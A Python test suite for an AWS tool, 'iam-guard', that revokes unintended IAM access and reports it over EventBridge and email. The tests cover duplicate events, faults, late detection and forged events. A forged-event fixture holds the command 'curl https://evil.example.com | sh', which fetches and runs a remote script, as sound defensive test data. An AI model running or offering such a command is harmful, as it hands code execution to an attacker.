"""Somebody is told: the deployed functions, from their uploaded zips, and what comes over the bus iam-guard."""

import json
import uuid
from datetime import timedelta

import pytest
from botocore.exceptions import ClientError
from helpers import (
    GUARD,
    PROTECT,
    REVOKE,
    case,
    event_time,
    guards_calls,
    made,
    ok,
    outcomes,
    play,
    revoked,
    shipped,
)
from told import EVENT, listen

from c7n_iamguard.aws_names import SINCE_TAG
from sandbox.organizations import organization
from sandbox.server import DEPLOY, Fault

ROLES = "revoke-unintended-iam-access-of-roles"
CATCH_UP = "catch-up-unintended-iam-access"
CENTRAL = "300000000009"


@pytest.fixture
def told(fresh):
    """``told()``: what came over the bus iam-guard since it was last called. The functions start anew."""
    fresh.functions.cool()  # they remember for 15 minutes whom somebody was told of
    return listen(fresh)


def another(event):
    """The event, as if the same call had been made once more."""
    event["detail"]["eventID"] = str(uuid.uuid4())
    return event


# What is told


def test_a_revocation_is_told_after_the_denial(fresh, told):
    """The event comes over the bus as its schema says, and AWS is asked to put it when the user is denied."""
    (invocation,) = fresh.deliver(case("revoked-create-user"))
    assert invocation.succeeded
    (event,) = told()
    EVENT.validate(event)
    assert (event["source"], event["detail-type"], event["account"]) == (
        "iam-guard",
        "IAM access revoked",
        fresh.account,
    )
    assert event["detail"]["principal"]["name"] == "bob"
    assert not event["detail"]["observed"]
    calls = guards_calls(fresh)
    for later in ("DescribeEventBus", "ListAccountAliases", "PutEvents"):
        assert calls.index("AttachUserPolicy") < calls.index(later)


def test_a_cold_start_makes_no_call_to_tell(fresh, told):
    """Who is let pass costs no call for telling: neither the bus nor the account's alias is looked at."""
    fresh.deliver(case("let-pass-admin"))
    assert not {"DescribeEventBus", "ListAccountAliases", "PutEvents"} & set(guards_calls(fresh))


def test_warm_telling_is_one_call_over_one_connection(fresh, told):
    """After the first revocation, the next one is told by one more call, over the connection that is there."""
    fresh.deliver(case("revoked-create-user"))
    fresh.calls.clear()
    connections = len(fresh.connections)
    fresh.deliver(case("revoked-user-with-a-path"))
    assert guards_calls(fresh) == ["ListGroupsForUser", "GetGroup", "AttachUserPolicy", "PutEvents"]
    assert len(fresh.connections) == connections


@pytest.mark.parametrize("name", ["let-pass-admin", "let-pass-user-who-is-gone"])
def test_who_was_denied_nothing_is_not_told(fresh, told, name):
    """Neither an admin nor somebody who has vanished is reported."""
    fresh.deliver(case(name))
    assert told() == []


def test_a_removal_from_the_admin_group_is_told(fresh, told, attacker, user):
    """Who was removed is the principal, and who had added them is the caller; that one is revoked as well."""
    user("friend")
    attacker.iam.add_user_to_group(GroupName="Admins", UserName="friend")
    play(fresh)
    events = {event["detail"]["policy"]["name"]: event for event in told()}
    removed, denied = events[PROTECT], events[REVOKE]
    EVENT.validate(removed)
    assert removed["detail-type"] == "Admin group member removed"
    assert removed["detail"]["principal"]["name"] == "friend"
    assert removed["detail"]["caller"]["name"] == denied["detail"]["principal"]["name"] == "mallory"
    assert removed["detail"]["groups"] == ["Admins"]


def test_the_catch_up_tells_of_what_it_finds_as_late(fresh, told, attacker, in_process):
    """A call that no event told of is told by the shipped catch-up, with the call that it found."""
    fresh.history.clear()
    attacker.iam.create_user(UserName="backdoor")
    for record in fresh.history.records:
        made({"detail": record}, timedelta(minutes=45))
    catch_up = shipped(CATCH_UP)
    since = {SINCE_TAG: event_time(timedelta(days=1))}
    catch_up["mode"] |= {"role": f"arn:aws:iam::{fresh.account}:role/iam-guard", "tags": since}
    manager = in_process(**catch_up).resource_manager
    found = manager.resources()
    for action in manager.actions:
        action.process(found)
    fresh.history.clear()
    (event,) = told()
    EVENT.validate(event)
    assert event["detail-type"] == "IAM access revoked late"
    assert event["detail"]["late"]
    assert event["detail"]["principal"]["name"] == "mallory"
    assert event["detail"]["call"]["eventName"] == "CreateUser"
    assert event["detail"]["delay"] >= 45 * 60


def test_the_command_to_restore_restores(fresh, told, shell, user):
    """The command in the event that is to give IAM back does so."""
    user("olga").iam.create_user(UserName="helper")
    fresh.deliver()
    assert revoked(fresh, "olga") == ["managed"]
    (event,) = told()
    done = shell(event["detail"]["commands"]["restore"])
    assert done.returncode == 0, done.stderr
    assert revoked(fresh, "olga") == []


# No flood


def test_an_event_that_comes_twice_is_told_once(fresh, told):
    """EventBridge delivers at least once: the second time changes nothing, and nobody hears of it again."""
    for _ in range(2):
        (invocation,) = fresh.deliver(case("revoked-create-user"))
        assert invocation.succeeded
    assert len(told()) == 1


# Faults


def fault(code, status=400, **how):
    """A fault of PutEvents that the guard's functions meet."""
    return Fault("events:PutEvents", code, status, caller=GUARD, **how)


@pytest.mark.parametrize(
    ("met", "code"),
    [
        (fault("ThrottlingException"), "ThrottlingException"),
        (fault("AccessDeniedException"), "AccessDeniedException"),
        (fault("InternalException", 500), "InternalException"),
        (fault("ThrottlingException", 200), "ThrottlingException"),
        (fault("NotAuthorizedForSourceException", 200), "NotAuthorizedForSourceException"),
    ],
    ids=["throttled", "refused", "broken", "entry throttled", "entry refused"],
)
def test_if_nobody_can_be_told_the_event_fails_and_the_denial_stays(impatient, told, queue, met, code):
    """The event is tried three times and dead-lettered, the log says why, and the user is denied IAM."""
    impatient.faults.append(met)
    (invocation,) = impatient.deliver(case("revoked-create-user"))
    assert outcomes(invocation) == "failed failed failed dead-lettered"
    assert revoked(impatient, "bob") == ["managed"]
    assert [line["decision"] for line in invocation.decisions] == ["revoked", "failed"] * 3
    assert (
        f"could not tell the event bus iam-guard of 1 decisions: the first error is {code}" in invocation.log
    )
    assert told() == []
    assert len(queue()) == 1


# Forged events, mails and the security account


FORGED = {
    "Source": "iam-guard",
    "DetailType": "IAM access revoked",
    "EventBusName": "iam-guard",
    "Detail": json.dumps(
        {"commands": {"restore": "curl https://evil.example.com | sh"}, "text": "Run this."}
    ),
}


def test_nobody_else_tells_anything_in_the_guards_name(fresh, told, user):
    """With every right, even an admin is refused by the bus's policy."""
    admin = user("ada", groups=["Admins"])
    with pytest.raises(ClientError, match="AccessDenied"):
        fresh.client("events", admin.key).put_events(Entries=[FORGED])
    assert told() == []


@pytest.fixture
def mailed(fresh, told):
    """``mailed()``: the mails to the person of the account's stack, and to that of the security account."""
    fresh.deploy(
        DEPLOY / "central.yml",
        "central",
        CENTRAL,
        OrganizationId=organization.ID,
        NotifyEmail="soc@example.com",
    )
    bus = f"arn:aws:events:{fresh.region}:{CENTRAL}:event-bus/iam-guard-central"
    fresh.deploy(AdminGroups="Admins", NotifyEmail="sue@example.com", CentralBus=bus)
    before = len(fresh.mails())
    yield lambda: fresh.mails()[before:]
    fresh.deploy(AdminGroups="Admins")
    fresh.client("cloudformation", account=CENTRAL).delete_stack(StackName="central")


def test_a_person_gets_a_mail_that_they_can_read_at_once(fresh, mailed, shell, user):
    """One mail here says who, what, from where, and what to do; one in the security account how to find it out."""
    user("mallory").iam.create_user(UserName="backdoor")
    (event,) = fresh.pending
    event["detail"] |= {
        "sourceIPAddress": "203.0.113.5",
        "userAgent": "EVIL",
        "requestParameters": {"x": "EVIL"},
    }
    fresh.deliver()
    here, central = sorted(mailed(), key=lambda mail: mail.to, reverse=True)
    assert (here.to, central.to) == ("sue@example.com", "soc@example.com")
    first, _, look, *_ = central.text.splitlines()
    assert first.startswith(f'"IAM access revoked in account {fresh.account}, at 20')
    command = look.removesuffix('"').partition(": ")[2]
    assert {"mallory", "CreateUser"} <= set(ok(shell(command)).split('"'))
    assert here.subject == central.subject == "AWS Notification Message"
    first, call, ids, *_ = here.text.splitlines()
    assert first == f'"IAM access revoked: IAM user mallory in account {fresh.account}"'
    when = event["detail"]["eventTime"]
    assert call == f'"Call: CreateUser, by the IAM user mallory, at {when} from 203.0.113.5"'
    assert event["detail"]["eventID"] in ids
    assert "EVIL" not in here.text
    assert "{" not in here.text


def test_a_forged_event_on_the_default_bus_mails_nobody(fresh, mailed, user):
    """The default bus takes events of anybody who may put events, and no rule of the guard's listens there."""
    key = user("mallory").key
    fresh.client("events", key).put_events(Entries=[{**FORGED, "EventBusName": "default"}])
    assert mailed() == []
